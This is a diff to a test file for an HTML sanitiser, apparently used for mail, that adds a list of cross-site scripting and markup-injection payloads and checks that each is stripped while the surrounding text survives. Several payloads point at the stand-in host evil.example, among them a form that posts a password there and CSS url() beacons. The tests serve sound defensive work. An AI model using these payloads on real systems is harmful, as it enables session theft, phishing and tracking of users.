@@ -169,6 +169,43 @@ describe('ML-16 hostile HTML', () => {
     expect(withPictures(withPictures(html))).toBe(withPictures(html))
   })
 
+  it('of all attacks that SECURITY.md names, one after the other and none of them closed, the mail after them stays', () => {
+    const attacks = [
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '<a href="javascript:alert(1)">x',
+      '<svg onload=alert(1)>',
+      '<svg><style><img src=x onerror=alert(1)></style>',
+      '<meta http-equiv=refresh content="0;url=https://evil.example">',
+      '<base href="https://evil.example/">',
+      '<form action="https://evil.example"><input name=password><button>',
+      '<style>@import url(https://evil.example/x.css);</style>',
+      '<p style="background:url(https://evil.example/x)">',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+      '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+      '<object data="data:text/html,x"><embed src="x.swf"><applet code=x>',
+      '<video poster="https://evil.example/x"><audio src=x><canvas><select><option>',
+    ]
+    for (const html of [...attacks, attacks.join('')]) {
+      const safe = withPictures(`<p>before</p>${html}<p>The <b>marker</b></p>`)
+      expect([html, safe]).toEqual([html, expect.stringMatching(/<p>before<\/p>.*<p>The <b>marker<\/b><\/p>/s)])
+      expect(markupOf(safe).filter((name) => forbiddenMarkup.test(name))).toEqual([])
+      expect(safe).not.toMatch(/(?:href|src)="|url\(|evil\.example/)
+      expect(withPictures(safe)).toBe(safe)
+      expect(htmlToText(safe)).toContain('The marker')
+    }
+  })
+
+  it.each([
+    ['<svg><title>t</title><text>drawn</text></svg> after', 'drawn after'],
+    ['<math><mi>x</mi><mo>=</mo><mn>1</mn></math> after', 'x=1 after'],
+    ['<object data="x">instead</object> after', 'instead after'],
+    ['<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg> after', '&lt;img src=x onerror=alert(1)&gt; after'],
+    ['<template>never shown</template><noembed>nor this</noembed> after', ' after'],
+  ])('of %s the words stay', (html, safe) => {
+    expect(withoutPictures(html)).toBe(safe)
+  })
+
   it('the same holds for every pair of attacks, one inside the other', () => {
     const broken = hostile.flatMap(([outer, a]) =>
       hostile.flatMap(([inner, b]) => {
